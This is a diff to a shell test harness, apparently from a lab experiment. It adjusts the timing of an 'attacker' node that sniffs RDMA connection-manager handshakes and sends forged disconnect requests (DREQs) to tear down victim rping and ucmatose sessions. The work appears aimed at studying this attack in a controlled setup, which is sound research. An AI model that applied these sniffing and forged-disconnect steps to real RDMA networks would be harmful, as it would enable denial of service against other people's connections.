@@ -67,7 +67,7 @@ _cell_cm_order() {
 }
 
 cell_cm_disconnect() {
-	local v=$1 lp n st t0 delay=0 opts=()
+	local v=$1 lp n st t0 delay=0 listen=8 opts=()
 	# rping: let the pings start. ucmatose: from the REP on, a DREQ every
 	# 0.1 s for 0.5 s: the client's CM drops one that beats its own RTU, and
 	# takes the first after it, long before the client's receive phase (128
@@ -75,13 +75,16 @@ cell_cm_disconnect() {
 	# Only the cell ends these victims (a server stopped by its timeout
 	# would disconnect its client as the forged DREQ does); ucmatose's
 	# receive phase took from 2 s to over 30 s, depending on the machine's load.
+	# The attacker listens 30 s for an rdma_cm victim's REQ/REP (a loaded
+	# guest may take that long to start one), 8 s for the others: their
+	# sessions must still be running when the blind DREQs go out.
 	case "$v" in
-	rping) delay=1000 VICTIM_SECONDS=40 ;;
-	ucmatose) opts=(--count 5 --interval-us 100000) VICTIM_SECONDS=80 ;;
+	rping) delay=1000 listen=30 VICTIM_SECONDS=40 ;;
+	ucmatose) opts=(--count 5 --interval-us 100000) listen=30 VICTIM_SECONDS=80 ;;
 	esac
 	rm -f "$CELL/learn.json" "$CELL/learn.err"
 	# Listen first: the REQ/REP go by while victim_start waits for traffic.
-	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_CLIENT_IP" --sniff fabbr --iface fab3 --timeout 30 \
+	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_CLIENT_IP" --sniff fabbr --iface fab3 --timeout $listen \
 		--delay-ms $delay "${opts[@]}" --json >"$CELL/learn.json" 2>"$CELL/learn.err" &
 	lp=$!
 	for _ in $(seq 1 50); do grep -q listening "$CELL/learn.err" 2>/dev/null && break; sleep 0.1; done
